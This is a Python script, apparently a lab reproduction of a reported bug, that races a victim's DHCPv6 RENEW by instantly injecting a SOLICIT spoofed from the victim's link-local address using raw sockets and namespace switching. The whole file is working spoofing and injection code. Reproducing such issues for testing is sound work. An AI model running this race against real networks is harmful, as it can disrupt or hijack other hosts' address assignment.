#!/usr/bin/python3
# The race of issue 13 item 2, run inside the victim's namespace:
#   every time the victim's DHCPv6 client sends a RENEW, the second station on the same
#   port sends a SOLICIT from the victim's link-local with its own MAC, at once (well
#   under a millisecond later).
# The victim's frames are read on its own eth0 (outgoing); the attack leaves by the
# station's eth0, in the station's namespace (setns after the sniffing socket is open),
# so it crosses the router port from the station's MAC as a real neighbour's would.
# argv: station-netns station-mac rounds victim-link-local
import ctypes, os, socket, struct, sys, time

station_ns, station_mac, rounds, victim_ll = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
ETH_P_ALL, PACKET_OUTGOING, CLONE_NEWNET = 0x0003, 4, 0x40000000

sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
sniff.bind(('eth0', 0))
libc = ctypes.CDLL(None, use_errno=True)
with open(f'/var/run/netns/{station_ns}') as f:
    if libc.setns(f.fileno(), CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), 'setns')
tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
tx.bind(('eth0', 0))

from scapy.all import DHCP6_Solicit, DHCP6OptClientId, DHCP6OptElapsedTime, DHCP6OptIA_NA, DUID_LL, Ether, IPv6, UDP, raw  # noqa: E402

templates = {}

def checksum(data):
    if len(data) % 2:
        data += b'\0'
    s = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def solicit(victim_ll, txid):
    # Built once, before the races (scapy takes milliseconds); then only the transaction-id
    # and the UDP checksum change, so the SOLICIT leaves well within a millisecond.
    if victim_ll not in templates:
        # The station's own DUID; only the link-local is the victim's.
        templates[victim_ll] = bytearray(raw(
            Ether(src=station_mac, dst='33:33:00:01:00:02') / IPv6(src=victim_ll, dst='ff02::1:2', hlim=1) /
            UDP(sport=546, dport=547) / DHCP6_Solicit(trid=0) / DHCP6OptClientId(duid=DUID_LL(lladdr=station_mac)) /
            DHCP6OptElapsedTime() / DHCP6OptIA_NA(iaid=0xbad)))
    f = templates[victim_ll]
    f[63:66] = txid.to_bytes(3, 'big')
    f[60:62] = b'\0\0'
    udp = bytes(f[54:])
    pseudo = bytes(f[22:54]) + struct.pack('!IxxxB', len(udp), 17)
    f[60:62] = struct.pack('!H', checksum(pseudo + udp) or 0xffff)
    return bytes(f)

solicit(victim_ll, 0)
victim_src = socket.inet_pton(socket.AF_INET6, victim_ll)
print('ready', flush=True)
done = 0
while done < rounds:
    frame, addr = sniff.recvfrom(65535)
    if addr[2] != PACKET_OUTGOING or len(frame) < 63:
        continue
    # Ethernet IPv6, UDP to port 547, DHCPv6 msg-type 5 (RENEW)
    if frame[12:14] != b'\x86\xdd' or frame[20] != 17 or frame[56:58] != b'\x02\x23' or frame[62] != 5 or frame[22:38] != victim_src:
        continue
    t0 = time.monotonic()
    renew_txid = frame[63:66].hex()
    tx.send(solicit(victim_ll, (int(renew_txid, 16) + 1) & 0xffffff))
    done += 1
    print(f'race {done} renew-xid {renew_txid} from {victim_ll} solicit after {(time.monotonic() - t0) * 1e6:.0f} us', flush=True)
print('done', flush=True)
